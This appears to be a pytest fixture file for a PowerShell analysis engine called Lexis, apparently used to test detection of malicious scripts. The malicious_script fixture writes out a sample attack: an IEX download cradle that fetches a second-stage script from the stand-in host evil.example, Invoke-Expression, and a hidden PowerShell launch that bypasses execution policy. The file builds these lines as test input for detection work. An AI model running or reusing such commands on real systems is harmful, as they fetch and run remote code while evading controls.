from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from shared.config import LexisConfig  # noqa: E402
from shared.logger import LexisLogger  # noqa: E402

from lexis.core.engine import LexisEngine  # noqa: E402


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


@pytest.fixture
def quiet_logger() -> LexisLogger:
    return LexisLogger("test", log_level="WARNING", console_output=False)


@pytest.fixture
def engine(quiet_logger: LexisLogger) -> LexisEngine:
    return LexisEngine(config=LexisConfig(), logger=quiet_logger)


@pytest.fixture
def malicious_script() -> str:
    payloads = [b64(f"Write-Host payload number {i} here") for i in range(4)]
    lines = [f'$p{i} = "{p}"' for i, p in enumerate(payloads)]
    lines += [
        'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/stage2.ps1")',
        "Invoke-Expression $decoded",
        "Start-Process powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass",
    ]
    return "\n".join(lines)


@pytest.fixture
def benign_script() -> str:
    return "\n".join([
        "# List the running services",
        "Get-Service | Where-Object { $_.Status -eq 'Running' } | Format-Table",
    ])


@pytest.fixture
def write_script(tmp_path: Path):
    def _write(name: str, text: str) -> Path:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return path

    return _write
